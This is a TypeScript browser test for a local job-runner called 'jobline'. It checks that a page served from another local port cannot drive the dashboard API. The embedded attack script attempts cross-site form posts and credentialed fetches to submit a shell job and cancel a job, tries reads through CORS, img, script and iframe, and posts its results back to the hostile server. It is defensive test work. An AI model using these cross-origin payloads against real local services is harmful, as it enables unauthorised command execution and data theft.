// No web page on this machine can drive jobline: in a real headless Chromium logged in to a real
// `jobline serve` (its key in the dashboard origin's storage), a page served by another server on
// another port of 127.0.0.1, and one addressed as localhost, tries a form post, a no-cors fetch
// with a Blob, a text/plain fetch, <img> and <script> GETs, a CORS read and an iframe against the
// server. Nothing is created, changed or read, and no credential reaches that page's server.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from '../helpers/browser.js';
import { startServer, type TestServer } from '../helpers/server.js';
import { waitFor } from '../helpers/wait.js';

const CONFIG = { agents: { slow: { type: 'command', phases: [{ name: 'wait', run: 'sleep 60' }] } } };

/** A request the hostile server received, as it came. */
interface Received {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

// What the hostile page runs against `target` (the dashboard's origin), trying to touch job `jobId`
// and to start a shell job that would create `marker`; it posts what it could see to /report.
function attackScript(target: string, jobId: string, marker: string): string {
  return `
const target = ${JSON.stringify(target)};
const shellJob = JSON.stringify({ agent: 'sh', prompt: 'touch ${marker}', mode: 'background' });
const results = {};
const attempt = async (name, run) => {
  try { results[name] = await run(); } catch (error) { results[name] = 'threw ' + error.name; }
};
const load = (tag, url) => new Promise((resolve) => {
  const element = document.createElement(tag);
  element.onload = () => resolve('loaded');
  element.onerror = () => resolve('failed');
  element.src = url;
  document.body.append(element);
  setTimeout(() => resolve('timed out'), 3000);
});
const formPost = (action, enctype, name, value) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = 'sink' + Math.random().toString(36).slice(2);
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action, enctype, target: frame.name });
  const input = document.createElement('input');
  Object.assign(input, { name, value });
  form.append(input);
  document.body.append(form);
  frame.onload = () => {
    try { resolve('read: ' + frame.contentDocument.body.innerText); } catch (error) { resolve('unreadable: ' + error.name); }
  };
  form.submit();
  setTimeout(() => resolve('timed out'), 3000);
});
(async () => {
  // A form posts text/plain that reads as JSON, and urlencoded, to submit and to cancel.
  const [head, tail] = [shellJob.slice(0, -1) + ', "pad": "', '"}'];
  await attempt('formTextPlain', () => formPost(target + '/api/jobs', 'text/plain', head, tail));
  await attempt('formCancel', () => formPost(target + '/api/jobs/${jobId}/cancel', 'application/x-www-form-urlencoded', 'x', '1'));
  // fetch without CORS: a Blob (no Content-Type), text/plain, with credentials.
  await attempt('noCorsBlob', async () => (await fetch(target + '/api/jobs', { mode: 'no-cors', method: 'POST', credentials: 'include', body: new Blob([shellJob]) })).type);
  await attempt('noCorsBlobCancel', async () => (await fetch(target + '/api/jobs/${jobId}/cancel', { mode: 'no-cors', method: 'POST', credentials: 'include', body: new Blob(['{}']) })).type);
  await attempt('noCorsEmptyCancel', async () => (await fetch(target + '/api/jobs/${jobId}/cancel', { mode: 'no-cors', method: 'POST', credentials: 'include' })).type);
  await attempt('textPlain', async () => (await fetch(target + '/api/jobs', { mode: 'no-cors', method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: shellJob })).type);
  await attempt('corsJson', async () => (await fetch(target + '/api/jobs', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: shellJob })).status);
  // Reads: CORS, <img>, <script>.
  await attempt('corsRead', async () => await (await fetch(target + '/api/board', { credentials: 'include' })).text());
  await attempt('img', () => load('img', target + '/api/board'));
  await attempt('script', () => load('script', target + '/api/jobs'));
  await attempt('scriptGlobals', async () => Object.keys(window).filter((key) => /job|board|card/i.test(key)).join(','));
  // The dashboard in a frame: it refuses to be shown, and its storage is not this page's.
  await attempt('frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = target + '/';
    frame.onload = () => {
      try { resolve('read: ' + frame.contentWindow.localStorage.length); } catch (error) { resolve('unreadable: ' + error.name); }
    };
    document.body.append(frame);
    setTimeout(() => resolve('timed out'), 3000);
  }));
  results.ownCookies = document.cookie;
  results.ownStorage = JSON.stringify({ ...localStorage });
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
})();
`;
}

// A server of another port: serves the attack page, and logs every request it gets.
async function startHostileServer(script: () => string): Promise<{ server: Server; port: number; received: Received[]; reports: Array<Record<string, string>> }> {
  const received: Received[] = [];
  const reports: Array<Record<string, string>> = [];
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8');
    request.on('data', (chunk: string) => (body += chunk));
    request.on('end', () => {
      received.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      if (request.url === '/report') {
        reports.push(JSON.parse(body) as Record<string, string>);
        response.end();
      } else if (request.url === '/attack') {
        response.setHeader('content-type', 'text/html');
        response.end(`<!doctype html><title>a local page</title><body><script>${script()}</script></body>`);
      } else {
        response.statusCode = 404;
        response.end();
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as { port: number }).port, received, reports };
}

describe('a page of another local server', () => {
  let server: TestServer;
  afterAll(async () => {
    await server?.stop();
  });

  it('can neither create, change nor read anything, and never gets the browser\'s credential', async () => {
    server = await startServer(CONFIG);
    const { id: jobId } = (await server.api('POST', '/api/jobs', { prompt: 'p', agent: 'slow', mode: 'background', name: 'untouched' })).body.job;
    await waitFor(async () => (await server.api('GET', `/api/jobs/${jobId}`)).body.job.status === 'running', 'the job to run');
    const context = await browser.newContext();
    const dashboard: Page = await context.newPage();
    dashboard.setDefaultTimeout(10_000);
    const { body: link } = await server.api('POST', '/api/login-links', {});
    await dashboard.goto(`http://127.0.0.1:${server.port}${link.url}`);
    await dashboard.getByText('Live', { exact: true }).waitFor();
    const key = readFileSync(join(server.jobsDir, 'browser-key'), 'utf8').trim();
    const marker = join(server.cwd, 'pwned');
    const target = `http://127.0.0.1:${server.port}`;
    const hostile = await startHostileServer(() => attackScript(target, jobId, marker));
    try {
      for (const host of ['127.0.0.1', 'localhost']) {
        const page = await context.newPage();
        await page.goto(`http://${host}:${hostile.port}/attack`);
        await waitFor(() => hostile.reports.length === (host === 'localhost' ? 2 : 1), `the page on ${host} to report`, 20_000);
        const report = hostile.reports.at(-1)!;
        // Nothing was read: no answer of the API, no frame's storage.
        expect(report.corsRead, host).toBe('threw TypeError');
        expect(report.corsJson, host).toBe('threw TypeError');
        expect(report.img, host).toBe('failed');
        expect(report.script, host).toBe('failed');
        expect(report.scriptGlobals, host).toBe('');
        expect(report.frame, host).not.toMatch(/^read/);
        expect(report.formTextPlain, host).not.toMatch(/^read: \{/);
        expect(report.ownCookies, host).toBe('');
        expect(report.ownStorage, host).toBe('{}');
        await page.close();
      }
      // Nothing was created or changed: the one job runs on, and no shell job ran.
      const { body } = await server.api('GET', '/api/jobs');
      expect(body.jobs.map((job: { id: string }) => job.id)).toEqual([jobId]);
      expect(body.jobs[0]).toMatchObject({ status: 'running', name: 'untouched' });
      expect(existsSync(marker)).toBe(false);
      // No credential reached the other server, in any header, address or body.
      const everything = JSON.stringify(hostile.received);
      expect(everything).not.toContain(key);
      expect(everything).not.toContain(server.token);
      expect(hostile.received.filter((request) => request.headers.cookie !== undefined)).toEqual([]);
      // The dashboard itself is still logged in and live.
      await dashboard.getByText('Live', { exact: true }).waitFor();
      expect(await dashboard.evaluate<string[]>('Object.values(localStorage)')).toEqual([key]);
    } finally {
      hostile.server.close();
      await context.close();
      await server.api('POST', `/api/jobs/${jobId}/cancel`, {});
    }
  }, 90_000);
});
